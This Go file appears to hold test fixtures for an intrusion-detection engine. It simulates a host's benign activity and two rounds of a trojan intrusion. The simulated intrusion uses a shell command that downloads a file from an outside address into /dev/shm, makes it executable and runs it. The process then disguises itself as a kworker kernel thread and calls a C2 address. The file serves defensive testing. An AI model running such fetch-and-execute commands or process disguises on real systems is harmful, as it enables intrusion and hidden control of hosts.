package enginetest

import (
	"crypto/sha256"
	"encoding/hex"
	"time"
)

func digest(text string) string {
	sum := sha256.Sum256([]byte(text))
	return hex.EncodeToString(sum[:])
}

// Trojan is one round of an intrusion: what the intruder rotates.
type Trojan struct {
	// From is where the request comes from.
	From string
	// URL it is fetched from, File it is put in.
	URL, File string
	// C2 address it calls.
	C2 string
	// Title it gives itself.
	Title string
}

// Round performs the report's intrusion through a service: fetch to shared
// memory, make executable, run, retitle, call out.
func (t Trojan) Round(service *Process) *Process {
	service.Accept(t.From)
	sh := service.Fork().Exec("/bin/sh", "-c", "curl "+t.URL+" -o "+t.File+"; chmod +x "+t.File+"; "+t.File)
	sh.Spawn("/usr/bin/curl", t.URL, "-o", t.File).Connect(t.C2, 80).Write(t.File).Exit()
	sh.Spawn("/usr/bin/chmod", "+x", t.File).Chmod(t.File).Exit()
	trojan := sh.Spawn(t.File)
	trojan.Retitle(t.Title)
	trojan.Connect(t.C2, 443)
	service.host.world.Advance(time.Minute)
	return trojan
}

// First and Second are the report's two rounds: another name, content and address.
var (
	First  = Trojan{From: "198.51.100.7", URL: "http://203.0.113.9/t", File: "/dev/shm/kworker", C2: "203.0.113.9", Title: "[kworker/14:1]"}
	Second = Trojan{From: "198.51.100.8", URL: "http://203.0.113.77/a", File: "/dev/shm/databus00000000123", C2: "203.0.113.77", Title: "[kworker/3:0]"}
)

// Benign is a host's ordinary work: a login that builds, a service that
// answers and calls outside, jobs of the init process.
func Benign(h *Host, rounds int) {
	web := h.Service("shop.service", "/usr/bin/shopd")
	admin := h.Login()
	for range rounds {
		web.Accept("198.51.100.50").Connect("203.0.113.200", 443).Ask("api.partner.example")
		build := admin.Spawn("/usr/bin/make", "all")
		cc := build.Spawn("/usr/bin/cc", "-c", "a.c")
		cc.Write("/home/app/a.o").Exit()
		build.Exit()
		job := h.Init.Spawn("/usr/bin/logrotate", "/etc/logrotate.conf")
		job.Write("/var/log/app.log").Exit()
	}
}
